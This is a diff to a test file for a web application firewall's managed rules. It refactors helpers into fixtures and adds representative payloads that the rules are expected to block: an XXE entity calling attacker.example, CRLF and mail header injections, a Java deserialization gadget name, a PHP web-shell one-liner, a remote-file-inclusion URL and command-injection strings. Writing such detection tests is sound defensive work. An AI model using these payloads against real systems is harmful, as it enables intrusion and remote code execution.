@@ -7,102 +7,18 @@
 // Examples the first cut of the rules got wrong are kept in TUNED (asserted as wanted); known gaps
 // are in KNOWN, asserted to still disagree, so the list of limits stays true.
 import { describe, expect, it } from 'vitest';
-import type { ManagedRulesSettings } from '../../platform/db/schema.ts';
-import type { InspectedRequest } from '../../gateway/inspected-request.ts';
-import { compileManagedRules, type ManagedRuleSet } from '../../gateway/rules/managed/index.ts';
 import { base64Text, mayBeBase64Text } from '../../gateway/rules/managed/base64-text.ts';
 import { isInert } from '../../gateway/rules/managed/prefilter.ts';
 import { programFor } from '../../gateway/rules/managed/program.ts';
 import { RULE_DEFINITIONS } from '../../schemas/managed-rules/catalogue.ts';
-import { buildRequest, type RequestSpec } from '../fixtures/shield/build-request.ts';
-
-// --- requests ------------------------------------------------------------------------------------
-
-/** Where an example travels. */
-type Place = 'query' | 'form' | 'json' | 'multipart' | 'header' | 'user_agent' | 'referer' | 'body';
-const INPUT_PLACES = ['query', 'form', 'json', 'multipart', 'header'] as const satisfies readonly Place[];
-
-/** An example: text in its table's default place, text in a chosen place, or a whole request. */
-type Example = string | { in: Place; text: string } | { label: string; spec: RequestSpec };
-
-/** A header cannot carry a raw line break: clients that smuggle one percent-encode it, which the canonicaliser undoes. */
-const headerSafe = (text: string): string => text.replace(/\r/g, '%0d').replace(/\n/g, '%0a');
-
-function specFor(place: Place, text: string): RequestSpec {
-  switch (place) {
-    case 'query':
-      return { path: '/search', query: `page=2&q=${encodeURIComponent(text)}` };
-    case 'form':
-      return { path: '/contact', form: `name=Jane&message=${encodeURIComponent(text)}` };
-    case 'json':
-      return { path: '/api/items', json: JSON.stringify({ item: { sku: 'ABC-1', note: text } }) };
-    case 'multipart':
-      return { path: '/upload', fields: [{ source: 'multipart', raw: 'comment', names: ['comment'], value: text }] };
-    case 'header':
-      return { path: '/api/v1/status', headers: { 'x-api-version': headerSafe(text) } };
-    case 'user_agent':
-      return { path: '/', headers: { 'user-agent': headerSafe(text) } };
-    case 'referer':
-      return { path: '/products', headers: { referer: headerSafe(text) } };
-    case 'body':
-      return { path: '/api/import', bodyText: text };
-  }
-}
-
-function requestOf(example: Example, place: Place): InspectedRequest {
-  if (typeof example === 'string') return buildRequest(specFor(place, example));
-  if ('spec' in example) return buildRequest(example.spec);
-  return buildRequest(specFor(example.in, example.text));
-}
-
-function describeExample(example: Example, place: Place): string {
-  if (typeof example === 'string') return `${place}: ${JSON.stringify(example)}`;
-  if ('spec' in example) return example.label;
-  return `${example.in}: ${JSON.stringify(example.text)}`;
-}
-
-// --- engines -------------------------------------------------------------------------------------
-
-const settings = (exclusions: ManagedRulesSettings['exclusions'] = []): ManagedRulesSettings => ({ enabled: true, paranoia_level: 1, exclusions });
-const PL1: ManagedRuleSet = compileManagedRules(settings(), true)!;
-
-/**
- * A level-1 engine with every rule off but those whose id starts with `prefix`: it blocks when a
- * rule of the expected class fires anywhere in the request, even where the catalogue order lets
- * another class name the decision (an ENTITY … SYSTEM is reported as traversal before xxe).
- */
-const SCOPED = new Map<string, ManagedRuleSet>();
-function scopedTo(prefix: string): ManagedRuleSet {
-  let engine = SCOPED.get(prefix);
-  if (!engine) {
-    const others = RULE_DEFINITIONS.filter((rule) => !rule.id.startsWith(prefix)).map((rule) => rule.id);
-    engine = compileManagedRules(settings([{ rules: others }]), true)!;
-    SCOPED.set(prefix, engine);
-  }
-  return engine;
-}
-
-/** Why a request is not blocked by a rule of `prefix`, or null when it is. */
-function missReason(request: InspectedRequest, prefix: string): string | null {
-  const decision = PL1.match(request)?.ruleId ?? 'none';
-  if (decision === 'none') return 'not blocked';
-  if (!scopedTo(prefix).match(request)) return `blocked only by ${decision}`;
-  return null;
-}
+import { buildRequest } from '../fixtures/shield/build-request.ts';
+import { CODE_INJECTION_TABLES } from '../fixtures/shield/code-injection-examples.ts';
+import { INPUT_PLACES, PL1, describeExample, missReason, requestOf, specFor, type ClassTable, type Example, type Place } from '../fixtures/shield/rule-examples.ts';
 
 // --- per-class tables ----------------------------------------------------------------------------
 
-interface ClassTable {
-  name: string;
-  /** The rule id prefix a block must come from: a category (`ssti.`) or one rule (`cmdi.jndi_lookup`). */
-  expect: string;
-  /** Where string examples travel. */
-  place: Place;
-  blocked: readonly Example[];
-  passed: readonly Example[];
-}
-
 const TABLES: readonly ClassTable[] = [
+  ...CODE_INJECTION_TABLES,
   {
     name: 'ssti',
     expect: 'ssti.',
@@ -657,7 +573,7 @@ const ONCE_INERT: readonly { text: string; fired: string }[] = [
  * Attacks too short to be recognised as base64 once unpadded: 5 bytes make 7 characters, below
  * base64-text.ts's minimum of 8 (padded, the same bytes make 8 and are decoded).
  */
-const KNOWN_SHORT_CARRIERS: readonly string[] = ['1`id`'];
+const KNOWN_SHORT_CARRIERS: readonly string[] = ['1`id`', '$a(1)'];
 
 describe('rule classes at paranoia level 1', () => {
   for (const table of TABLES) {
@@ -720,6 +636,9 @@ const REPRESENTATIVES: readonly { name: string; expect: string; payload: string;
   { name: 'xxe', expect: 'xxe.', payload: '<!DOCTYPE r [<!ENTITY x SYSTEM "http://attacker.example/x">]><r>&x;</r>', pathTarget: false },
   { name: 'crlf', expect: 'crlf.', payload: '\r\nSet-Cookie: sid=attacker', pathTarget: true },
   { name: 'mail', expect: 'mail.', payload: 'jane@example.com\r\nBcc: victim@example.org', pathTarget: true },
+  { name: 'java', expect: 'java.', payload: 'org.apache.commons.collections.functors.InvokerTransformer', pathTarget: true },
+  { name: 'php', expect: 'php.', payload: "<?php system($_GET['c']); ?>", pathTarget: true },
+  { name: 'rfi', expect: 'rfi.', payload: 'http://66.240.183.75/crash.php', pathTarget: false },
 ];
 
 /** `\uXXXX` for every character but letters, digits and spaces, as a payload hidden in a JS string is written. */
